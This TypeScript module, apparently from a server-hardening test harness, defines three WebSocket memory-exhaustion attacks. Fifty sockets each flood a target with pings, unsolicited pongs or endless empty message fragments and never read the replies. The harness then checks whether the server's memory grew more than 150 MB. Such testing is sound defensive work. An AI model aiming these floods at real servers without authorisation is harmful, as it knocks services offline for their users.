/** Sockets that send without end and never read: what would be answered has to stay somewhere. */
import { connect as dialTcp, type Socket } from 'node:net';
import { type Attack, type Figures, sleep, type Target } from './attack.ts';

const SOCKETS = 50;
const MOST_GROWN_MB = 150;
/** Frames as a client masks them, with a key of zeros. */
const frame = (opcode: number, isLast: boolean, bytes: number): Buffer =>
  Buffer.concat([Buffer.from([(isLast ? 0x80 : 0) | opcode, 0x80 | bytes, 0, 0, 0, 0]), Buffer.alloc(bytes, 'x')]);
const PING = frame(0x9, true, 125);
const PONG = frame(0xa, true, 125);
const FIRST_PART = frame(0x1, false, 0);
const NEXT_PART = frame(0x0, false, 0);
const many = (one: Buffer): Buffer => Buffer.concat(Array.from({ length: Math.ceil(65_536 / one.length) }, () => one));

const HANDSHAKE = [
  'GET /socket HTTP/1.1',
  'Host: x',
  'Connection: Upgrade',
  'Upgrade: websocket',
  'Sec-WebSocket-Version: 13',
  'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
];
const handshake = `${HANDSHAKE.join('\r\n')}\r\n\r\n`;

/** A socket that is never read; closed ones are opened again. */
async function pour({ url, from }: Target, first: Buffer, rest: Buffer, isOver: () => boolean, figures: Figures): Promise<void> {
  const { hostname, port } = new URL(url);
  while (!isOver()) {
    const socket: Socket = dialTcp({ port: Number(port), host: hostname, localAddress: from });
    socket.on('error', () => {}).pause();
    figures.opened++;
    socket.write(handshake);
    socket.write(first);
    while (!isOver() && !socket.destroyed) {
      figures.megabytes += rest.length / 1e6;
      socket.write(rest);
      do await sleep(1);
      while (!isOver() && !socket.destroyed && socket.writableNeedDrain);
    }
    socket.destroy();
    await sleep(20);
  }
}
const pouring =
  (first: Buffer, rest: Buffer) =>
  async (target: Target): Promise<Figures> => {
    const figures: Figures = { opened: 0, megabytes: 0 };
    const end = performance.now() + target.seconds * 1000;
    const isOver = (): boolean => performance.now() > end;
    await Promise.all(Array.from({ length: SOCKETS }, () => pour(target, first, many(rest), isOver, figures)));
    return { ...figures, megabytes: Math.round(figures.megabytes) };
  };
const problems: Attack['problems'] = ({ grownMB }) => (grownMB <= MOST_GROWN_MB ? [] : [`the server has grown by ${grownMB} MB`]);

export const PINGS: Attack = {
  name: 'pings',
  says: `${SOCKETS} sockets send pings without end and never read`,
  attack: pouring(PING, PING),
  problems,
};
export const PONGS: Attack = {
  name: 'pongs',
  says: `the same with answers to pings that nobody has sent`,
  attack: pouring(PONG, PONG),
  problems,
};
export const PARTS: Attack = {
  name: 'parts',
  says: `the same with one message of nothing but empty parts`,
  attack: pouring(FIRST_PART, NEXT_PART),
  problems,
};
